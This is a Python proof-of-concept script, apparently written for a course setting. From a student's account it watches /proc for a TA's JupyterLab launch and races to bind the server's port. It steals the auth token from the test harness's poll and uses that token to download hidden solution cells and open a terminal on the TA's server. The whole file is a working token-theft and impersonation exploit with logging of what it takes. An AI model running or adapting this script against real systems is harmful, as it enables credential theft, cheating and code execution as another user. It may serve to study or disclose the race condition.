"""a06, run as the student's account (uid 65000) while the TA runs the browser tests (`make test`, `make screenshots`).

tests/browser.py picks a free port, closes it, starts JupyterLab with `--ServerApp.port=<port>` on its command line
(every local user reads it in /proc) and, while JupyterLab imports, polls `http://127.0.0.1:<port>/api/status?token=<T>`.
This script sees the port in the command line, listens there first, reads the token from the poll, and lets go of
the port at once so that the real JupyterLab binds it (tornado sets SO_REUSEADDR); then it uses the TA's server.
"""
import json, os, re, socket, sys, time, urllib.request

out = sys.argv[1] if len(sys.argv) > 1 else "/tmp/a54-steal"
deadline = time.time() + float(sys.argv[2] if len(sys.argv) > 2 else 400)
seen = set()
log = open(os.path.join(out, "steal.log"), "a", buffering=1)

def grab(port):
    s = socket.socket()
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    try:
        s.bind(("127.0.0.1", port))
    except OSError as e:
        log.write(f"bind {port}: {e}\n"); return None
    s.listen(8); s.settimeout(5)
    token = None
    try:
        c, _ = s.accept()
        c.settimeout(2)
        req = c.recv(4096).decode("latin-1")
        m = re.search(r"token=([0-9a-f]+)", req)
        token = m.group(1) if m else None
        log.write(f"port {port}: request line {req.splitlines()[0]!r}\n")
        c.close()
    except OSError as e:
        log.write(f"accept {port}: {e}\n")
    s.close()
    return token

while time.time() < deadline:
    for pid in os.listdir("/proc"):
        if not pid.isdigit() or pid in seen:
            continue
        try:
            cmd = open(f"/proc/{pid}/cmdline", "rb").read().split(b"\0")
        except OSError:
            continue
        seen.add(pid)
        args = [a.decode("latin-1") for a in cmd]
        if "jupyterlab" in args and any(a.startswith("--ServerApp.port=") for a in args):
            port = int(next(a for a in args if a.startswith("--ServerApp.port="))[len("--ServerApp.port="):])
            root = next((a for a in args if a.startswith("--ServerApp.root_dir=")), "")
            log.write(f"{time.time():.3f} pid {pid} JupyterLab on port {port} {root}\n")
            token = grab(port)
            log.write(f"{time.time():.3f} token {token}\n")
            if not token:
                continue
            base = f"http://127.0.0.1:{port}"
            for _ in range(200):
                try:
                    with urllib.request.urlopen(f"{base}/api/status?token={token}", timeout=2) as r:
                        log.write(f"TA server status {r.status}: {r.read()[:200]!r}\n"); break
                except OSError:
                    time.sleep(0.1)
            try:
                with urllib.request.urlopen(f"{base}/api/contents/source?token={token}", timeout=5) as r:
                    listing = json.load(r)
                names = [c["path"] for c in listing["content"]]
                log.write(f"source/: {names}\n")
                path = next(n for n in names if "ps1" in n) if names else None
                with urllib.request.urlopen(f"{base}/api/contents/{path}?token={token}", timeout=5) as r:
                    folder = json.load(r)
                nbpath = folder["content"][0]["path"]
                with urllib.request.urlopen(f"{base}/api/contents/{nbpath}?token={token}&content=1", timeout=5) as r:
                    nb = json.load(r)["content"]
                sol = [c["source"] for c in nb["cells"] if "BEGIN SOLUTION" in c["source"] or "### BEGIN" in c["source"]]
                open(os.path.join(out, "stolen_solution_cells.txt"), "w").write("\n\n#----\n".join(sol))
                log.write(f"read {nbpath} through the TA's server: {len(sol)} solution cells\n")
                # a terminal of the TA's: code as the TA (created; what runs in it needs a websocket)
                req = urllib.request.Request(f"{base}/api/terminals?token={token}", method="POST", data=b"")
                with urllib.request.urlopen(req, timeout=5) as r:
                    log.write(f"POST /api/terminals: {r.status} {r.read()[:200]!r}\n")
            except Exception as e:
                log.write(f"using the token: {e!r}\n")
    time.sleep(0.02)
